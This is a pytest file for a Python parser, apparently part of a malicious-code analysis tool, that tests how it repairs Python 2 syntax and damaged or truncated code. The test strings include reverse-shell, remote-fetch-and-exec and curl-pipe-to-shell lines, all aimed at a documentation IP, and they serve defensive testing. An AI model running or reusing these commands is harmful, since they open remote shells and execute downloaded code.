"""What each kind of damaged or old text is read as."""

from __future__ import annotations

import ast

import pytest

from antivenom.pycode.budget import Budget
from antivenom.pycode.syntax import parse

PYTHON2 = [
    ("print 'a'", "print('a')"),
    ("print", "print"),
    ("print 'a', b,", "print('a', b, end=' ')"),
    ("print >>f, 'a', b; print", "print >> f, 'a', b; print"),
    ("print >>f, 'a', b; print 1", "print('a', b, file=f); print(1)"),
    ("print >>f; print 1", "print(file=f)\nprint(1)"),
    ("print ('a %s') % b; print c", "print('a %s' % b)\nprint(c)"),
    ("print -1, not x, `y`", "print(-1, not x, repr(y))"),
    ("import os;exec 'os.system(1)'", "import os\nexec('os.system(1)')"),
    ("exec code in ns", "exec(code) in ns"),
    ("exec 'a' in g, l", "exec('a', g, l)"),
    ("try:\n  a()\nexcept E, e:\n  b()", "try:\n    a()\nexcept E as e:\n    b()"),
    ("try:\n  a()\nexcept (A, B), e:\n  b()", "try:\n    a()\nexcept (A, B) as e:\n    b()"),
    ("raise E, 'text'", "raise E('text')"),
    ("raise E, 'text', tb", "raise E('text')"),
    ("f(0777, 0x10L, 12L, 00, 0)", "f(511, 16, 12, 0, 0)"),
    ("f(ur'a\\b', a <> b)", "f('a\\\\b', a != b)"),
    ("def f(a, (b, c)): return b", "def f(a, _tuple1):\n    b, c = _tuple1\n    return b"),
    ("def f((a, (b, c)), d):\n    return c", "def f(_tuple1, d):\n    a, (b, c) = _tuple1\n    return c"),
    ("if d.has_key(1): print 2", "if d.has_key(1):\n    print(2)"),
]


@pytest.mark.parametrize("text,expected", PYTHON2)
def test_python_2(text: str, expected: str) -> None:
    tree = parse(text, Budget()).tree
    if text == "exec code in ns":
        expected = "exec(code, ns)"
    assert ast.dump(tree) == ast.dump(ast.parse(expected))


def test_tuple_parameters_of_a_lambda_keep_their_meaning() -> None:
    parsed = parse("key = lambda (k, v), (a, (b,)): [v, k, b]", Budget())
    assert parsed.repairs == ("Python 2 tuple parameters",)
    names: dict[str, object] = {}
    exec(parsed.text, names)
    assert names["key"]((1, 2), (3, (4,))) == [2, 1, 4]  # type: ignore[operator]


DAMAGED = [
    # indentation
    ("   import os", "import os"),
    ("\n    import os\n    os.system('a')\n", "import os\nos.system('a')"),
    ("import os;\n  os.system('a')", "import os\nos.system('a')"),
    ("for x in y:\nf(x)\ng(x)", "for x in y:\n    f(x)\ng(x)"),
    ("if x:\n\tf()\n        g()", "if x:\n    f()\n    g()"),
    ("x = 1\n  y = f(2)\n z = 3", "x = 1\ny = f(2)\nz = 3"),
    # shells, pages, typesetters, templates, notebooks
    ("print(\\\"x\\\"); f(\\'y\\')", "print('x')\nf('y')"),
    ("import os; os.system(“a”)", "import os\nos.system('a')"),
    ("import os\\nos.system('a')\\n", "import os\nos.system('a')"),
    ("import os\n!ls -l\n%time f()\nos.system('a')", "import os\nos.system('a')"),
    ("s.connect((<LHOST>,<LPORT>))", "s.connect((LHOST, LPORT))"),
    ("import $MOD; $MOD.run(${ARG})", "import MOD\nMOD.run(ARG)"),
    ("import {name}; {name}.run()", "import name\nname.run()"),
    ("import os\u200b;os.system('a')", "import os\nos.system('a')"),
    ("import os;os.\0system('a')", "import os\nos.system('a')"),
    # quotes eaten
    ("s.connect((192.0.2.7,80))", "s.connect(('192.0.2.7', 80))"),
    ("import os;os.system(nc -e /bin/sh 192.0.2.7 80)", "import os\nos.system('nc -e /bin/sh 192.0.2.7 80')"),
    ("exec(urlopen(http://192.0.2.7/a.py).read())", "exec(urlopen('http://192.0.2.7/a.py').read())"),
    ("exec(import os;os.system(id))", "exec('import os;os.system(id)')"),
    ("f(b64decode(aWQ=), shell=/bin/sh)", "f(b64decode('aWQ='), shell='/bin/sh')"),
    # line breaks lost
    (
        "import socket s=socket.socket() s.connect(('192.0.2.7',80)) exec(s.recv(99))",
        "import socket\ns=socket.socket()\ns.connect(('192.0.2.7',80))\nexec(s.recv(99))",
    ),
    ("from os import system import sys system('a')", "from os import system\nimport sys\nsystem('a')"),
    ("for x in y: f(x) g(x)", "for x in y:\n    f(x)\n    g(x)"),
    ("for x in y:    f(x)    if x:        g(x) h()", "for x in y:\n    f(x)\n    if x:\n        g(x)\nh()"),
    ("while 1: d=f() if not d: break g(d)", "while 1:\n    d=f()\n    if not d:\n        break\n    g(d)"),
    ("try: import a except E: f() else: g()", "try:\n    import a\nexcept E:\n    f()\nelse:\n    g()"),
    ("def f(a): return a+1 print(f(2))", "def f(a):\n    return a+1\nprint(f(2))"),
    ("x = a if b else c y = x not in z f(y)", "x = a if b else c\ny = x not in z\nf(y)"),
    ("import os print os.getcwd() exec 'a()'", "import os\nprint(os.getcwd())\nexec('a()')"),
    # cut off
    ("import os; os.system('id", "import os\nos.system('id')"),
    ('exec(b64decode("aW1wb3J0', "exec(b64decode('aW1wb3J0'))"),
    ("f('a\\x4", "f('a')"),
    ("f('a\\", "f('a')"),
    ("f('''a\nb''", "f('''a\nb''')"),
    ("f(a, b=", "f(a, b)"),
    ("f(g([1, 2, {'a':", "f(g([1, 2, {'a'}]))"),
    ("x = f(1) +", "x = f(1)"),
    ("if f(x):", "if f(x):\n    pass"),
    ("if f(x)", "if f(x):\n    pass"),
    ("try:\n  import os\n  os.system('a')", "try:\n    import os\n    os.system('a')\nfinally:\n    pass"),
    ("f(f'http://{host}/{pa", "f(f'http://{host}/')"),
    ("print 'abc", "print('abc')"),
    ("import os; os.system('a'); $(b) ) }", "import os\nos.system('a')"),
    # piece by piece
    ("import os\n)(\nos.system('a')\n", "import os\nos.system('a')"),
    ("import os; ] [; os.system('a')", "import os\nos.system('a')"),
    ("x = ? os.system('a') ?", "os.system('a')"),
    ("class A: }\n  x=1\nimport os", "class A: pass\nx=1\nimport os"),
]


@pytest.mark.parametrize("text,expected", DAMAGED)
def test_damage(text: str, expected: str) -> None:
    parsed = parse(text, Budget())
    assert parsed.repairs
    assert ast.dump(parsed.tree) == ast.dump(ast.parse(expected))


def test_entities() -> None:
    tree = parse("f(&quot;a&quot;, 1 &lt; 2, b &amp; 3, &#39;c&#x27;)", Budget()).tree
    assert ast.unparse(tree) == "f('a', 1 < 2, b & 3, 'c')"


NOT_PYTHON = [
    "ls -la /tmp && id | grep root",
    "curl http://192.0.2.7/a.sh | sh; echo done",
    "cd /tmp; wget http://192.0.2.7/a; chmod +x a; ./a",
    "please open the terminal and run this script to continue",
    "$x = New-Object Net.WebClient; $x.DownloadString('http://192.0.2.7/')",
    "The fox (brown) is quick; import the module. Call os.system('a') now!",
    "@echo off & del /q file.txt",
    "SELECT name FROM users WHERE id = 1",
    "\\\\server\\share\\file",
    "-la",
]


@pytest.mark.parametrize("text", NOT_PYTHON)
def test_what_is_no_python_gives_no_code(text: str) -> None:
    parsed = parse(text, Budget())
    assert not [node for node in ast.walk(parsed.tree) if isinstance(node, (ast.Call, ast.Import))]


def test_repairs_are_said_in_words() -> None:
    assert parse("print 'a'", Budget()).repairs == ("Python 2 print statement",)
    assert parse("f('a", Budget()).repairs == ("cut off inside a string; closed it",)
    assert parse("import os\n)(\nf(os)", Budget()).repairs == ("1 of 2 statements could not be read",)
    assert "not Python" in parse("what was this", Budget()).repairs[-1]
